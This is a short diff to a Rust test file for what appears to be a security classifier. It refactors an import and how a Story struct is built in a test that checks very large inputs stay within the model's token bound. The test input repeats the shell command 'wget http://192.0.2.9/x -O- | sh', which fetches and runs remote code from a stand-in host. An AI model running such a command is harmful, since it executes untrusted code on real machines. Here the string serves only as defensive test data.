@@ -3,7 +3,7 @@
 use std::fs;
 use std::path::{Path, PathBuf};
 
-use cordon_behavior::Story;
+use cordon_behavior::story::Story;
 use cordon_model::artifact::{self, Manifest, ModelError, sha256};
 use cordon_model::{Model, Part};
 use proptest::prelude::*;
@@ -145,8 +145,10 @@ proptest! {
 #[test]
 fn a_story_of_megabytes_costs_what_the_bound_costs() {
     let model = Model::load(&committed()).expect("the committed artifact loads");
-    let mut story = Story::default();
-    story.session = vec!["wget http://192.0.2.9/x -O- | sh; ".repeat(200); 2000];
+    let story = Story {
+        session: vec!["wget http://192.0.2.9/x -O- | sh; ".repeat(200); 2000],
+        ..Story::default()
+    };
     let input = model.read(&story);
     assert!(input.tokens.len() <= model.shape().tokens);
     let assessment = model.assess_input(&input);
